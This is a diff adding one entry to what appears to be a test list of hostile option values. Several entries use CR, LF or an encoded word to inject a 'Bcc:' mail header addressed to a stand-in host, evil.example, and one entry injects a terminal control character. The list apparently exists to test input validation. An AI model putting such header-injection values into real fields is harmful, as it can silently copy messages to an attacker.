@@ -128,6 +128,7 @@ HOSTILE = [
     ("--comment", "Sjekket\nBcc: innsyn@evil.example", "LF"),
     ("--comment", "=?utf-8?b?U2pla2tldA0KQmNjOiB4QGV2aWwuZXhhbXBsZQ==?=", "CR (inside an RFC 2047 encoded word)"),
     ("--approved-by", "Kari\x1b[2J", "control character U+001B"),
+    ("--override-reason", "Tallene er sjekket\r\nBcc: innsyn@evil.example", "CR"),
 ]
 
 
